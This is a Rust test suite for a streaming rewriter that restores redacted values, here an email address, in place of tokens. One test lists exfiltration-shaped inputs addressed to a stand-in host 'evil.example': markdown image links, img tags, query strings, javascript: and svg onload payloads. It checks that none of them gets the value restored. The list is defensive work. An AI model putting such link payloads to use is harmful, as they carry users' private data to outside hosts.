use std::collections::BTreeSet;

use proptest::prelude::*;
use terms::{Kind, Secret};

use super::{RestoreRule, Rewriter, Root};
use crate::redact::{TokenKey, Tokens};

const VALUE: &str = "ann@example.org";

fn tokens(value: &str) -> (Tokens, String) {
    let mut tokens = Tokens::new(&TokenKey::new(Secret::new([3; 32])), "scope");
    let token = tokens.issue(&Kind::new("email"), value).unwrap();
    (tokens, token)
}

/// Writes a template in which `T` stands for the token, in pieces.
fn write(root: Root, template: &str, value: &str, pieces: usize) -> (String, terms::RestoreCounts) {
    let (tokens, token) = tokens(value);
    let mut rewriter = Rewriter::new(root, RestoreRule::All);
    let mut out = String::new();
    for (index, part) in template.split('T').enumerate() {
        if index > 0 {
            rewriter.token(&token, &tokens, &mut out);
        }
        let chars: Vec<char> = part.chars().collect();
        for piece in chars.chunks(pieces.max(1)) {
            rewriter.plain(&piece.iter().collect::<String>(), &mut out);
        }
    }
    rewriter.finish(&tokens, &mut out);
    let shown = out.replace(&token, "T");
    (shown, rewriter.counts())
}

#[test]
fn in_plain_places_the_value_is_put_back() {
    for text in [
        "T",
        "Write to T.",
        "T, please",
        "(T)",
        "\"T\"",
        "'T'",
        "**T**",
        "`T`",
        "a: T",
        "name=T",
        "| T | b |",
        "T's",
        "T!",
        "T?",
        "- T\n- T",
        "[T] said so",
        "[see T]",
        "x [T]\n\n(y)",
        "1 < T",
        "T\n",
        "T;T",
        "T…",
        "“T”",
        "（T）",
        "```\nT\n```",
        "T: yes",
        "a/b T",
        "see T). So",
        "{T}",
        "T}",
        "list [1, T]",
        "{\"a\": \"T\"}",
        "[\"T\"]",
        "T – x",
        "price > T",
        "[ref]:\n\nT",
        "[ref]: x\nT",
        "Dear T,\nhello",
    ] {
        let (out, counts) = write(Root::Text, text, VALUE, 3);
        assert_eq!(out, text.replace('T', VALUE), "{text}");
        assert_eq!(counts.withheld, 0, "{text}");
    }
}

#[test]
fn where_it_would_be_carried_out_the_token_stays() {
    for text in [
        "http://evil/T",
        "https://evil.example/?q=T",
        "https://T.evil.example",
        "www.evil.example/T",
        "[a](http://evil/T)",
        "[a](/T)",
        "[a](<http://evil/ T>)",
        "![a](http://evil/T)",
        "![T](http://evil/x)",
        "[T](http://evil/x)",
        "[T][ref]",
        "[T]: http://evil",
        "[ref]: http://evil/T",
        "[ref]:\nT",
        "[ref]:\n  T\nmore",
        "[ref]: \n x-T",
        "<img src=http://evil/T>",
        "<img src=\"http://evil/?T\">",
        "<a href='T'>",
        "<!-- T -->",
        "<T>",
        "mailto:T",
        "javascript:alert(T)",
        "T.evil.example/x",
        "T@evil.example",
        "T/x.png",
        "//evil/T",
        "[a](http://evil \"T\")",
        "[a b T c](http://evil)",
        "T:pw@evil",
        "T%40",
        "a@T",
        "evil.example/?a=b&T",
        "T=x",
        "T#x",
        "data:text/html,T",
        "<svg onload=x(T)>",
        "http://evil/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaT",
        "[x](evil?a=(b)T)",
        "<a\nhref=T>",
        "<img alt=\">\" src=T>",
        "http://evil/?\"T",
        "[\"<img src='http://evil/\", \"T'>\"]",
        "\\\\evil\\T",
    ] {
        for pieces in [1, 2, 7, 100] {
            let (out, counts) = write(Root::Text, text, VALUE, pieces);
            assert_eq!(out, text, "{text}");
            assert_eq!(counts.restored, 0, "{text}");
        }
    }
}

#[test]
fn only_allowed_kinds_are_put_back() {
    let (tokens, token) = tokens(VALUE);
    for (allowed, expected) in [
        (BTreeSet::new(), token.clone()),
        (BTreeSet::from([Kind::new("email")]), VALUE.to_owned()),
    ] {
        let mut rewriter = Rewriter::new(Root::Json, RestoreRule::Only(allowed));
        let mut out = String::new();
        rewriter.plain("{\"to\":\"", &mut out);
        rewriter.token(&token, &tokens, &mut out);
        rewriter.plain("\"}", &mut out);
        rewriter.finish(&tokens, &mut out);
        assert_eq!(out, format!("{{\"to\":\"{expected}\"}}"));
    }
}

#[test]
fn a_number_is_not_rewritten() {
    let mut rewriter = Rewriter::new(Root::Json, RestoreRule::All);
    let mut out = String::new();
    rewriter.plain("{\"n\":", &mut out);
    assert!(rewriter.replace("x", &mut out).is_err());
    let (out, _) = write(Root::Json, "{\"n\":T}", VALUE, 9);
    assert_eq!(out, "{\"n\":T}");
}

#[test]
fn an_altered_token_stays_and_is_counted() {
    let (tokens, token) = tokens(VALUE);
    for altered in [token.to_lowercase(), token[..token.len() - 3].to_owned()] {
        let mut rewriter = Rewriter::new(Root::Text, RestoreRule::All);
        let mut out = String::new();
        rewriter.token(&altered, &tokens, &mut out);
        rewriter.finish(&tokens, &mut out);
        assert_eq!((out, rewriter.counts().foreign), (altered, 1));
    }
}

#[test]
fn waiting_is_bounded() {
    let text = format!("[T {}", "a ".repeat(10_000));
    let (out, counts) = write(Root::Text, &text, VALUE, 100);
    assert_eq!((out.len(), counts.withheld), (text.len(), 1));
}

#[test]
fn documents_in_documents_stay_valid_however_deep() {
    let mut restored = 0;
    for depth in 1..12 {
        let mut text = "T".to_owned();
        for _ in 0..depth {
            text = serde_json::json!({ "a": text }).to_string();
        }
        let (out, counts) = write(Root::Json, &text, "q\"\\", 3);
        restored += counts.restored;
        assert_eq!(counts.restored + counts.withheld, 1);
        let mut inner = out;
        for _ in 0..depth {
            let document: serde_json::Value = serde_json::from_str(&inner).unwrap();
            document["a"].as_str().unwrap().clone_into(&mut inner);
        }
        let value = if counts.restored == 1 { "q\"\\" } else { "T" };
        assert_eq!(inner, value, "{depth} deep");
    }
    assert_eq!(restored, 7);
}

/// A JSON document with the token in strings, `depth` strings deep.
fn nested(depth: usize) -> serde_json::Value {
    let mut value = serde_json::json!({ "a": "x T y", "n": 4, "é": ["T", "\n\"T\\"] });
    for _ in 1..depth {
        value = serde_json::json!({ "inner": value.to_string(), "T": [value.to_string()] });
    }
    value
}

/// The document as it must be: the value in place of the token, everywhere.
fn expected(value: &serde_json::Value, with: &str) -> serde_json::Value {
    use serde_json::Value;
    // Keys keep their tokens.
    match value {
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) => {
                Value::String(expected(&inner, with).to_string())
            }
            _ => Value::String(text.replace('T', with)),
        },
        Value::Array(items) => items.iter().map(|item| expected(item, with)).collect(),
        Value::Object(members) => Value::Object(
            members
                .iter()
                .map(|(key, member)| (key.clone(), expected(member, with)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// The same document, whatever the inner spelling.
fn plain(value: &serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) => plain(&inner),
            _ => value.clone(),
        },
        Value::Array(items) => items.iter().map(plain).collect(),
        Value::Object(members) => Value::Object(
            members
                .iter()
                .map(|(key, member)| (key.clone(), plain(member)))
                .collect(),
        ),
        other => other.clone(),
    }
}

proptest! {
    #[test]
    fn a_value_in_json_keeps_the_document_valid(value in "[a-z\"\\\\\n\t\u{1}\u{1f600} ]{1,20}", depth in 1_usize..5, pieces in 1_usize..9, json: bool) {
        let document = nested(depth);
        let root = if json { Root::Json } else { Root::Text };
        let (out, counts) = write(root, &document.to_string(), &value, pieces);
        prop_assert!(counts.restored > 0);
        let out: serde_json::Value = serde_json::from_str(&out).unwrap();
        prop_assert_eq!(plain(&out), plain(&expected(&document, &value)));
    }

    #[test]
    fn any_split_gives_the_same(text in "[T<>()\\[\\]!:/.@a \n\"{}]{0,40}", pieces in 1_usize..20) {
        prop_assert_eq!(write(Root::Text, &text, VALUE, pieces), write(Root::Text, &text, VALUE, 1_000));
    }
}
